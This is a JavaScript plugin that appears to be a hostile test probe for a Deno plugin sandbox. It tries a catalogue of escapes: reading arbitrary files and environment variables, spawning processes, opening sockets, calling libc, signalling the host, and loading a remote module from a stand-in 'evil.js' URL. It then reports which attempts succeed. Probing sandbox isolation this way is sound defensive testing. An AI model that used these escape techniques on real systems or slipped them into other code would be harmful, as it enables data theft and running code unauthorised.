/** Tries every way out of the sandbox that it knows, and tells what came of it. */
import childProcess from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import process from "node:process";
import { createRequire } from "node:module";
import { DatabaseSync } from "node:sqlite";

const load = (specifier) => import(specifier);

export function activate(context) {
  const attempts = {
    "read a file": (target) => Deno.readTextFileSync(target),
    "read a file with node:fs": (target) => fs.readFileSync(target, "utf8"),
    "read a file by import": (target) => load(`file://${target}`),
    "read a file by import as text": (target) => import(`file://${target}`, { with: { type: "text" } }),
    "read a file by import as bytes": (target) => import(`file://${target}`, { with: { type: "bytes" } }),
    "read a file by import as JSON": (target) => import(`file://${target}`, { with: { type: "json" } }),
    "read a file by require": (target) => createRequire("file:///")(target),
    "read a file by fetch": (target) => fetch(`file://${target}`).then((response) => response.text()),
    "read a file by a database": (target) => new DatabaseSync(target).prepare("select * from sqlite_schema").all(),
    "read a file by a worker": (target) =>
      new Promise((resolve, reject) => {
        const source = `self.postMessage(Deno.readTextFileSync(${JSON.stringify(target)}))`;
        const worker = new Worker(`data:text/javascript,${encodeURIComponent(source)}`, { type: "module" });
        worker.onmessage = ({ data }) => resolve(data);
        worker.onerror = (event) => (event.preventDefault(), reject(new Error(event.message)));
      }),
    "list a folder": () => [...Deno.readDirSync("/")],
    "write a file": () => Deno.writeTextFileSync("/tmp/timetrack-hostile", "x"),
    "remove a file": (target) => Deno.removeSync(target),
    "connect": () => Deno.connect({ hostname: "127.0.0.1", port: 9 }),
    "connect with node:net": () =>
      new Promise((resolve, reject) => net.connect(9, "127.0.0.1").on("connect", resolve).on("error", reject)),
    "fetch the host's API": () => fetch("http://127.0.0.1:8000/api/health").then((response) => response.text()),
    "listen": () => Deno.listen({ port: 0 }).addr,
    "resolve a name": () => Deno.resolveDns("localhost", "A"),
    "spawn": () => new Deno.Command("id").outputSync(),
    "spawn with node:child_process": () => {
      const { error, stdout } = childProcess.spawnSync("id");
      if (error) throw error;
      return String(stdout);
    },
    "spawn itself with more rights": () => new Deno.Command(Deno.execPath(), { args: ["eval", "1"] }).outputSync(),
    "read the environment": () => Deno.env.toObject(),
    "read one variable": () => Deno.env.get("HOME") ?? "nothing",
    "read the environment with node:process": () => process.env.HOME ?? "nothing",
    "call a system library": () => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }),
    "ask for the computer's name": () => Deno.hostname(),
    "ask for the person's name": () => os.userInfo().username,
    "kill the host": () => Deno.kill(Deno.ppid, 0),
    "load a remote module": () => load("https://example.com/evil.js"),
    "load an npm module": () => load("npm:is-number@7.0.0"),
    "load a jsr module": () => load("jsr:@std/path"),
    "ask for more rights": async () => {
      const { state } = await Deno.permissions.request({ name: "read" });
      if (state !== "granted") throw new Error(state);
      return state;
    },
  };

  context.routes.get("/try/:what", async (c) => {
    const what = c.req.param("what");
    if (what === "list") return c.json(Object.keys(attempts));
    try {
      const got = await attempts[what](c.req.query("target"));
      return c.json({ escaped: true, got: String(got).slice(0, 200) });
    } catch (thrown) {
      return c.json({ escaped: false, why: String(thrown).slice(0, 200) });
    }
  });
  context.commands.register("attack", () => Object.keys(attempts).length);
}
